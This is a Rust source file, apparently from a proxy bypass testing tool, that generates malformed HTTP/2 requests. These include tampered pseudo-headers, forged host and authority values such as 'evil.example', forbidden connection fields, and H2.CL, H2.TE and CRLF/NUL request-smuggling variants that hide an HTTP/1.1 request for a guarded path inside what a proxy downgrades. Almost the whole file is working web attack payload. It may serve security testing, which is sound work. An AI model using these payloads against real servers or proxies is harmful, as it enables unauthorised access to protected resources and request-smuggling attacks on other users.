//! HTTP/2 fields that no client library sends (RFC 9113 §8.2 and §8.3), and what becomes of them in HTTP/1.1.

use crate::bypass::family::Family;
use crate::bypass::script::{NONCE, Permitted, Script};
use crate::bypass::tokens::PERMITTED;
use crate::bypass::trick::{Album, Ground, Sent, Stream};

type Change = fn(&mut Stream, &Ground);

/// Pseudo-headers, names, values, bodies.
pub(super) fn album(ground: &Ground) -> Album {
    let mut album = Album::of(Family::Http2);
    for (name, fields) in pseudo(ground) {
        album.add(name, Sent::Http2(vec![replaced(ground.get(&ground.guarded).stream(), &fields)]));
    }
    for (name, (field, value)) in regular(ground) {
        let mut stream = ground.get(&ground.guarded).stream();
        stream.fields.push((Script::of(field), Script::of(value)));
        album.add(name, Sent::Http2(vec![stream]));
    }
    let changes: [(&str, Change); 7] = [
        ("a pseudo-header behind a header", |stream, _| stream.fields.rotate_right(1)),
        ("pseudo-headers last", |stream, _| stream.fields.reverse()),
        ("a pseudo-header as a trailer", |stream, ground| {
            stream.body = Some(Script::of("x"));
            stream.trailers.push((Script::of(":path"), Script::of(&ground.open)));
        }),
        ("the right token as a trailer", |stream, _| {
            stream.body = Some(Script::of("x"));
            stream.trailers.push((Script::of("authorization"), Script::of("Bearer ").and(Script::token(PERMITTED))));
        }),
        ("no method", |stream, _| drop(stream.fields.remove(0))),
        ("no scheme", |stream, _| drop(stream.fields.remove(1))),
        ("no authority", |stream, _| drop(stream.fields.remove(2))),
    ];
    for (name, change) in changes {
        let mut stream = ground.get(&ground.guarded).stream();
        change(&mut stream, ground);
        album.add(name, Sent::Http2(vec![stream]));
    }
    hidden(&mut album, ground);
    album
}

/// A stream with other pseudo-headers: those of a name that is given are replaced by all that are.
fn replaced(mut stream: Stream, fields: &[(&str, String)]) -> Stream {
    let given = |name: &Script| fields.iter().any(|(given, _)| name.shown() == *given);
    stream.fields.retain(|(name, _)| !given(name));
    let new = fields.iter().map(|(name, value)| (Script::of(name), Script::of(value)));
    stream.fields.splice(0..0, new);
    stream
}

fn pseudo(ground: &Ground) -> Vec<(String, Vec<(&'static str, String)>)> {
    let Ground { host, guarded, open, .. } = ground;
    let bare = guarded.trim_start_matches('/');
    let mut all = Vec::new();
    // CVE-2026-33186: a path without its slash
    let paths = [
        bare.to_owned(),
        String::new(),
        "*".into(),
        format!("http://{host}{guarded}"),
        format!("{open}#/../..{guarded}"),
        format!("{open} {guarded}"),
        format!("{open}\r\n{guarded}"),
        format!("{guarded}\0"),
        format!("{guarded} HTTP/1.1"),
        format!("//{host}{guarded}"),
        format!("{guarded}#"),
        format!(" {guarded}"),
        format!("\t{guarded}"),
        format!("?{guarded}"),
        format!("{guarded}\u{ff}"),
        format!("\\{bare}"),
    ];
    all.extend(paths.map(|path| vec![(":path", path)]));
    all.push(vec![(":path", open.clone()), (":path", guarded.clone())]);
    all.push(vec![(":path", guarded.clone()), (":path", open.clone())]);
    for method in ["", "get", "GET ", "GET /x HTTP/1.1", "CONNECT", "GET\r\n", "OPTIONS", "TRACE", "PRI"] {
        all.push(vec![(":method", method.to_owned())]);
    }
    all.push(vec![(":method", "GET".into()), (":method", "OPTIONS".into())]);
    all.push(vec![(":method", "CONNECT".into()), (":protocol", "websocket".into())]);
    for scheme in ["", "https", "ftp", "http://evil.example/?", "HTTP", "http\0", "http, https"] {
        all.push(vec![(":scheme", scheme.to_owned())]);
    }
    for authority in ["evil.example", "", "*", "a b", "a\r\nhost: b"] {
        all.push(vec![(":authority", authority.to_owned())]);
        all.push(vec![(":authority", format!("{authority}@{host}"))]);
    }
    all.push(vec![(":authority", host.clone()), (":authority", "evil.example".into())]);
    for name in [":unknown", ":", ":status", ":Path", ":path "] {
        all.push(vec![(name, open.clone())]);
    }
    let shown = |fields: &Vec<(&str, String)>| {
        let one = |(name, value): &(&str, String)| format!("{name} `{}`", value.escape_debug());
        fields.iter().map(one).collect::<Vec<_>>().join(", ")
    };
    all.into_iter().map(|fields| (shown(&fields), fields)).collect()
}

fn regular(ground: &Ground) -> Vec<(String, (&'static str, String))> {
    let fields = [
        ("connection", "close".to_owned()),
        ("connection", "authorization".into()),
        ("proxy-connection", "keep-alive".into()),
        ("keep-alive", "1".into()),
        ("transfer-encoding", "chunked".into()),
        ("upgrade", "h2c".into()),
        ("te", "gzip".into()),
        ("host", "evil.example".into()),
        ("host", ground.host.clone()),
        ("Authorization", "Bearer x".into()),
        ("authorization\0", "Bearer x".into()),
        ("authorization ", "Bearer x".into()),
        ("", "x".into()),
        (" x", "y".into()),
        ("x:y", "z".into()),
        ("x\r\ny", "z".into()),
        ("cookie", "a=1".into()),
        ("content-length", "-1".into()),
        ("content-length", "10".into()),
        ("x-http-method-override", "OPTIONS".into()),
    ];
    let named = |(name, value): (&'static str, String)| {
        (format!("a field `{}: {}`", name.escape_debug(), value.escape_debug()), (name, value))
    };
    fields.into_iter().map(named).collect()
}

/// A request hidden in what becomes HTTP/1.1 behind the proxy.
fn hidden(album: &mut Album, ground: &Ground) {
    let inner = || {
        let head = format!("GET {} HTTP/1.1\r\nhost: {}\r\n{NONCE}: ", ground.guarded, ground.host);
        Script::of(head).and(Script::nonce(Permitted::No)).then("\r\n\r\n")
    };
    let open = || ground.get(&ground.open).method("POST").stream();
    let mut add = |name: &str, change: &dyn Fn(&mut Stream)| {
        let mut stream = open();
        change(&mut stream);
        album.add(name, Sent::Http2(vec![stream]));
    };
    let field = |name: &str, value: Script| (Script::of(name), value);
    for length in ["0", "1", "00", "+0", "0, 1", ""] {
        add(&format!("H2.CL: content-length `{length}`"), &|stream| {
            stream.fields.push(field("content-length", Script::of(length)));
            stream.body = Some(inner());
        });
    }
    for coding in ["chunked", "identity", "xchunked", "chunked\r\n"] {
        add(&format!("H2.TE: transfer-encoding `{}`", coding.escape_debug()), &|stream| {
            stream.fields.push(field("transfer-encoding", Script::of(coding)));
            stream.body = Some(Script::of("0\r\n\r\n").and(inner()));
        });
    }
    for (name, end) in
        [("line breaks", "\r\n\r\n"), ("line feeds", "\n\n"), ("carriage returns", "\r\r"), ("NUL", "\0\0")]
    {
        add(&format!("a request behind {name} in a value"), &|stream| {
            stream.fields.push(field("x", Script::of(format!("y{end}")).and(inner())));
        });
        add(&format!("a request behind {name} in a name"), &|stream| {
            stream.fields.push((Script::of(format!("x: y{end}")).and(inner()), Script::of("z")));
        });
        for (at, place) in [(3, "path"), (2, "authority"), (0, "method")] {
            add(&format!("a request behind {name} in the {place}"), &|stream| {
                if let Some((_, value)) = stream.fields.get_mut(at) {
                    *value = value.clone().then(format!(" HTTP/1.1\r\nhost: x{end}")).and(inner());
                }
            });
        }
    }
}
